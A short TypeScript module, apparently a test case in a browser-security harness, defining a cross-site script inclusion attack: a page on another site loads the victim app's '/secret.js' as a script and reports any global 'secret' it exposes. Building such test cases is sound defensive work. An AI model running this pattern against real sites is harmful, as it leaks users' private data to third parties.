import type { PageAttack } from "../attack.ts";

export const attack: PageAttack = {
  from: "other site",
  what: "an app's file taken for a script of its own",
  script: `
    const script = document.createElement("script");
    script.src = victim + "/secret.js";
    document.head.append(script);
    await new Promise((later) => setTimeout(later, 500));
    if (globalThis.secret) report(globalThis.secret);
  `,
};
